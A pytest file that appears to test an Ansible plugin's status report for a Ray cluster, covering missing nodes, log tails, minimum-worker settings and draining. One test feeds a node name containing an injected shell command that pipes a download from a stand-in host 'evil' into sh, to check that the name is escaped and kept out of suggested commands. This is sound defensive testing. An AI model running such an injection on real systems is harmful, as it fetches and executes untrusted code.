from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any

from ansible_collections.argus.verl.plugins.module_utils.argus.cluster.membership import NodeRow, NodeState
from ansible_collections.argus.verl.plugins.plugin_utils.presence.presence import (
    LOG_LINES,
    ClusterInfo,
    Scope,
    cluster_report,
)
from samples import planned

ANSWER = {"complete": True, "missing": [], "rows": [], "waited": 0.0, "problem": "", "jobs": []}
NODES = ["ray-head", "worker-0", "worker-1"]
KEPT = {name: planned() for name in NODES}
DASHBOARD = "http://127.0.0.1:8265 on box"
SCOPE = Scope("mvp", DASHBOARD, NODES, ["ray-head"])


def info(*states: str, problem: str = "", waited: float = 9) -> ClusterInfo:
    rows = [
        NodeRow(name, "GPU 4", "GPU 4" if state == "alive" else "never joined", NodeState(state))
        for name, state in zip(NODES, states, strict=True)
    ]
    missing = [row.name for row in rows if row.state in ("missing", "differs")]
    return ClusterInfo(not missing and not problem, missing, rows, waited, problem)


def report(cluster: ClusterInfo, logs: Mapping[str, Sequence[str]] | None = None) -> dict[str, Any]:
    return cluster_report(cluster, KEPT, logs or {}, SCOPE)


def test_report_of_a_ready_cluster() -> None:
    plans = KEPT | {"worker-0": planned("create")}
    assert cluster_report(info("alive", "alive", "alive"), plans, {}, SCOPE) == {
        "title": "Cluster mvp: 3 of 3 nodes as expected",
        "header": ["node", "state", "resources", "accelerator", "action"],
        "rows": [
            ["ray-head", "alive", "GPU 4", "cpu", "keep"],
            ["worker-0", "alive", "GPU 4", "cpu", "create"],
            ["worker-1", "alive", "GPU 4", "cpu", "keep"],
        ],
        "text": ["Dashboard: http://127.0.0.1:8265 on box"],
        "fail_when": "",
    }


def test_what_is_free_and_the_jobs_on_it() -> None:
    worker = {"node_name": "worker-0", "state": "ALIVE", "resources_total": {}, "free": "GPU 1", "jobs": ["a", "b"]}
    found = report(replace(info("alive", "alive", "alive"), nodes=[{**worker, "state": "DEAD", "jobs": []}, worker]))
    free, jobs = found["header"].index("free"), found["header"].index("jobs")
    assert [(row[free], row[jobs]) for row in found["rows"]] == [(None, None), ("GPU 1", "a, b"), (None, None)]


def test_slow_head_is_reported() -> None:
    cluster = replace(info("alive", "alive", "alive"), slow=6.6)
    assert report(cluster)["text"][0] == "The head answers slowly: 7 s. Is its machine overloaded?"
    assert report(cluster)["fail_when"] == ""
    assert ClusterInfo.from_json({**ANSWER, "slow": 6.6}).slow == 6.6
    assert ClusterInfo.from_json(ANSWER).slow == 0


def test_nodes_that_were_lost_under_several_jobs_are_named() -> None:
    cluster = ClusterInfo.from_json({**ANSWER, "bad_nodes": {"worker-1": ["sft-1", "sft-2"]}})
    assert any("worker-1 was lost under 2 jobs" in line and "sft-2" in line for line in report(cluster)["text"])


def test_report_of_missing_nodes_has_the_end_of_their_logs() -> None:
    log = [*(f"line {number}" for number in range(40)), "wrong token"]
    found = report(info("alive", "missing", "differs"), {"worker-0": log, "ray-head": ["healthy"]})
    assert found["title"] == "Cluster mvp: 1 of 3 nodes as expected"
    assert found["header"] == ["node", "state", "expected", "seen", "accelerator", "action"]
    assert found["rows"][1] == ["worker-0", "missing", "GPU 4", "never joined", "cpu", "keep"]
    # worker-1 has no log, so it is only in the table.
    assert found["text"] == [
        "The last lines of worker-0:",
        *(f"  line {number}" for number in range(40 - LOG_LINES + 1, 40)),
        "  wrong token",
    ]
    assert "`docker logs NODE`" in found["fail_when"]


def test_without_the_head_only_its_log_is_shown() -> None:
    logs = {"ray-head": ["ValueError: no memory"], "worker-0": ["no head"], "worker-1": ["no head"]}
    found = report(info("missing", "missing", "missing"), logs)
    assert found["text"] == ["The last lines of ray-head:", "  ValueError: no memory"]
    # The engine has no log of the head, but of workers.
    assert report(info("missing", "missing", "missing"), {"worker-0": ["no head"]})["text"][1:] == ["  no head"]


def test_node_without_a_log_is_not_looked_for() -> None:
    plans = KEPT | {"worker-1": planned("create")}
    removed = info("alive", "alive", "missing")
    assert cluster_report(removed, plans, {}, SCOPE)["fail_when"].endswith("the nodes that are missing")
    # This run has created it.
    created = cluster_report(removed, plans, {"worker-1": ["wrong token"]}, SCOPE)
    assert created["fail_when"].endswith("are missing. `docker logs worker-1` shows more")
    ended = cluster_report(info("alive", "missing", "missing"), plans, {}, SCOPE)
    assert ended["fail_when"].endswith("are missing. `docker logs worker-0` shows more")


def test_log_of_a_process_is_a_file() -> None:
    plans = {"worker-0": planned(process={"directory": "/home/ml/nodes/worker-0"})}
    found = cluster_report(info("alive", "missing", "alive"), plans, {}, SCOPE)
    assert found["fail_when"].endswith("that are missing. /home/ml/nodes/worker-0/node.log on its host shows more")


def test_report_without_a_head() -> None:
    seen = info("missing", "missing", "missing", problem="it does not answer")
    plans = {name: planned() for name in NODES[:2]}
    found = cluster_report(seen, plans, {}, SCOPE)
    assert found["title"] == "Cluster mvp: 0 of 3 nodes as expected"
    assert found["text"] == ["The head: it does not answer"]
    # A node outside this run has neither an action nor an accelerator.
    assert found["rows"][2] == ["worker-1", "missing", "GPU 4", "never joined", None, None]
    assert found["fail_when"]


# --- Fewer workers ----------------------------------------------------------------------------------------------------


def with_least(cluster: ClusterInfo, least: int | None) -> dict[str, Any]:
    return cluster_report(cluster, KEPT, {}, replace(SCOPE, least=least))


def test_fewer_workers_are_enough_if_they_are_asked_for() -> None:
    two, one = info("alive", "alive", "missing"), info("alive", "missing", "differs")
    found = with_least(two, 1)
    assert found["fail_when"] == ""
    assert found["text"] == ["Goes on with fewer workers: cluster_min_workers is 1", f"Dashboard: {DASHBOARD}"]
    # The missing one is shown nevertheless.
    assert found["rows"][2][:4] == ["worker-1", "missing", "GPU 4", "never joined"]
    assert found["title"].startswith("Cluster mvp: 2 of 3")
    assert with_least(two, None)["fail_when"] and with_least(two, 2)["fail_when"]
    assert with_least(one, 1)["fail_when"] and not with_least(one, 0)["fail_when"]
    # More than there are is all of them.
    assert with_least(two, 7)["fail_when"] and not with_least(info("alive", "alive", "alive"), 7)["fail_when"]


def test_no_number_of_workers_replaces_the_head() -> None:
    assert with_least(info("missing", "alive", "alive"), 0)["fail_when"]
    assert with_least(info("alive", "alive", "missing", problem="it is slow"), 0)["fail_when"]


def test_ready_cluster_does_not_go_on_with_fewer() -> None:
    assert with_least(info("alive", "alive", "alive"), 1)["text"] == [f"Dashboard: {DASHBOARD}"]


# --- Nodes that people have to know about -----------------------------------------------------------------------------


def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
    return {"node_name": name, "state": state, "node_ip": "10.0.0.7", "resources_total": {"GPU": 8.0, "memory": 1.0}}


def test_node_that_is_not_in_the_inventory_is_named() -> None:
    nodes = [ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8", "DEAD")]
    (line, _dashboard) = report(replace(info("alive", "alive", "alive"), nodes=nodes))["text"]
    assert line.startswith("worker-9 at 10.0.0.7") and line.endswith("drain.yml -e node=worker-9")


def test_odd_name_is_in_no_command() -> None:
    odd = replace(info("alive", "alive", "alive"), nodes=[ray_node("x;curl evil|sh\nroot")])
    (line, _dashboard) = report(odd)["text"]
    assert line.startswith("x;curl evil|sh\\nroot at 10.0.0.7") and "drain.yml" not in line


def test_draining_node_is_named() -> None:
    found = report(info("alive", "draining", "alive"))
    assert found["title"] == "Cluster mvp: 3 of 3 nodes as expected"
    assert found["text"][0].startswith("worker-0: no new work. To take it back, run drain.yml")


def test_nodes_that_the_limit_leaves_out_are_counted() -> None:
    found = cluster_report(info("alive", "alive", "alive"), KEPT, {}, replace(SCOPE, outside=["worker-2", "worker-3"]))
    assert found["title"] == "Cluster mvp: 3 of 3 nodes as expected, 2 not in this run"
